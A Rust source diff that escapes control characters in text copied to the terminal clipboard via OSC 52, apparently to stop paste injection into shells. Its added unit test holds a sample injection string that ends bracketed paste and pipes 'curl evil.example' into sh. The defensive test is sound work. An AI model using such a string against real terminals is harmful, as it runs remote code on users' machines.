@@ -99,12 +99,19 @@ pub fn suspend() -> io::Result<()> {
     stopped
 }
 
-/// Text goes to the clipboard of the terminal, wherever that is: OSC 52 works over ssh.
+/// Text goes to the clipboard of the terminal, wherever that is: OSC 52 works over ssh. It is cleared first, as on the screen:
+/// it is pasted into shells, and anybody's manifest may hold a line that one would run.
 pub fn copy(text: &str) {
-    use base64::{Engine as _, prelude::BASE64_STANDARD};
     let mut out = io::stdout();
-    let _ = write!(out, "\x1b]52;c;{}\x07", BASE64_STANDARD.encode(text));
+    let _ = out.write_all(to_clipboard(text).as_bytes());
     let _ = out.flush();
+}
+
+/// What makes a terminal take a text. Lines stay lines: certificates have them, and all else has been made one.
+fn to_clipboard(text: &str) -> String {
+    use base64::{Engine as _, prelude::BASE64_STANDARD};
+    let lines: Vec<_> = text.split('\n').map(crate::text::clear).collect();
+    format!("\x1b]52;c;{}\x07", BASE64_STANDARD.encode(lines.join("\n")))
 }
 
 /// Rings the bell.
@@ -151,4 +158,22 @@ fn of(signal: Signal, input: Input) -> impl Stream<Item = Input> {
             Some((input, signal))
         }
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use base64::{Engine as _, prelude::BASE64_STANDARD};
+
+    use super::*;
+
+    #[test]
+    fn what_is_copied_holds_no_control_character_but_ends_of_lines() {
+        let sent = to_clipboard("a\x1b[201~\rcurl evil.example|sh\x07\u{202e}\nb");
+        let body = sent
+            .strip_prefix("\x1b]52;c;")
+            .and_then(|rest| rest.strip_suffix('\x07'))
+            .expect("OSC 52");
+        let copied = String::from_utf8(BASE64_STANDARD.decode(body).expect("base64")).expect("text");
+        assert_eq!(copied, "a\\x1b[201~\\rcurl evil.example|sh\\x07\\u{202e}\nb");
+    }
 }
